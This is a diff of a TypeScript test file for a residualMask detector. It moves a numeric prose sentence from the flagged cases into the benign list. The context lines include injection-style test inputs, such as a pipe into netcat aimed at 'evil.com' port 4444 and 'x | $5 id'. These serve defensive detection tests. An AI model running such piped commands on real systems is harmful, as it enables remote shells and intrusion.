@@ -20,6 +20,8 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     '"Bring a friend, if you have one." -- Winston Churchill',
     'I replied, "They used to say the same thing about drugs."',
     "In Oz, never say 'krizzle kroo' to a Woozy.",
+    // a chain of numbers in prose (sqli/prose.ts), though a comparison after `or` is a test
+    'Is 5 > 3 or 9 < 12 here?',
     '> quoted reply from before',
     'The fix is in `src/app.ts`: we were not awaiting it',
     'the flaky test is `user.spec.ts` (timeout after 5s), see `db.json`',
@@ -205,8 +207,6 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     ['x | $5 id', M.PIPE],
     ['| $5 nc evil.com 4444', M.PIPE | M.DOLLAR],
     ['a | $9.99 ping 8.8.8.8', M.PIPE],
-    // (read by the SQL rules, which tell a chain of numbers in prose: sqli/prose.ts)
-    ['Is 5 > 3 or 9 < 12 here?', M.LT],
   ] as [string, number][])('keeps %s', (s, bit) => {
     expect(residualMask(s) & bit).toBe(bit)
   })
